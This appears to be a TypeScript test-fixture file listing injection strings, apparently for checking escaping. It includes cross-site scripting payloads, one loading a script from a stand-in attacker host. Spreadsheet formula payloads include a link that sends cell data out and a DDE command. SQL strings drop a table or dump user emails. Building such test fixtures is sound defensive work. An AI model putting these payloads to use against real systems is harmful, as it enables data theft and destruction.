/** Texts that would be script or markup in a page, a mail or an attribute that does not treat them as text. */
export const scriptPayloads = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  "'-alert(1)-'",
  '</title></style><script src=https://evil.example/x.js></script>',
  '{{constructor.constructor("alert(1)")()}}',
  '[clique](javascript:alert(1))',
  '![](https://evil.example/x.png) <https://evil.example>',
] as const;

/** All of them in one text. */
export const everyScript = scriptPayloads.join('\n');
/** Some of them in a text as long as a name may be. */
export const scriptedName = scriptPayloads.slice(0, 4).join(' ');

/** Texts that spreadsheet programs would take for a formula. */
export const formulaPayloads = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '=HYPERLINK("https://evil.example/?"&A1;"clique")',
  "=cmd|'/C calc'!A1",
  ';=1+1',
  '";=1+1;"',
  '\n=1+1',
  ',=1+1',
  'a,"=1+1',
] as const;

/** SQL and related dialects: ends of strings, comments, parameters and patterns. */
export const sqlTexts = [
  "'; drop table account_user cascade; -- /*",
  "' or '1'='1' union select id, name, email from account_user \\",
  "\"; \u02bc %_$1 $(1) :id ? @> *) E'\\047' = U&'\\0027'; $$x$$",
] as const;
